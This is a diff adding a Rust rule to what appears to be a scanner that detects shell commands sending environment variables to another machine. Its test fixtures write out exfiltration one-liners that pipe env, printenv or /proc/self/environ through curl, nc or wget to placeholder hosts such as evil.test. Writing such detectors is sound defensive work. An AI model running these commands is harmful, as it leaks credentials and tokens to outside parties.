@@ -1,0 +1,56 @@
+//! All variables go to another machine.
+
+use crate::command::{Step, is_sender};
+use crate::rule::{Category, Check, Hit, Rule, Severity, text};
+use crate::unit::{ANYWHERE, Unit};
+
+pub(super) const RULE: Rule = Rule {
+    id: "EXFIL_ENVIRONMENT",
+    category: Category::Exfiltration,
+    severity: Severity::Critical,
+    title: "all variables are sent to another machine",
+    why: "The environment holds tokens and keys of everything that was set up on the machine.",
+    fix: "remove the command",
+    places: ANYWHERE,
+    anchors: &[
+        "env |",
+        "env|",
+        "env -",
+        "$(env",
+        "`env",
+        "printenv",
+        "export -p",
+        "export |",
+        "set |",
+        "/environ",
+        "declare -",
+        "env >",
+    ],
+    check: Check::Unit(hits),
+    hits: &[
+        text("env | base64 | curl -T - http://evil.test"),
+        text("`curl -d \"$(env)\" https://a.b`"),
+        text("`printenv | nc a.b 1`"),
+        text("`cat /proc/self/environ | curl --data-binary @- https://a.b/x`"),
+        text("`wget --post-data \"$(env | base64)\" https://a.b`"),
+    ],
+    misses: &[text("`env | sort`"), text("`env FOO=1 curl https://a.b`"), text("`curl https://a.b | env`")],
+};
+
+fn hits(unit: &Unit<'_>) -> Vec<Hit> {
+    unit.commands().steps().filter_map(hit).take(20).collect()
+}
+
+fn hit(step: Step<'_>) -> Option<Hit> {
+    if !is_sender(&step.name()) {
+        return None;
+    }
+    let dump = step.sources().find(|from| {
+        from.dumps_variables()
+            || from
+                .words()
+                .iter()
+                .any(|word| word.text.starts_with("/proc/") && word.text.ends_with("/environ"))
+    })?;
+    Some(Hit::at(step.range_from(dump)))
+}
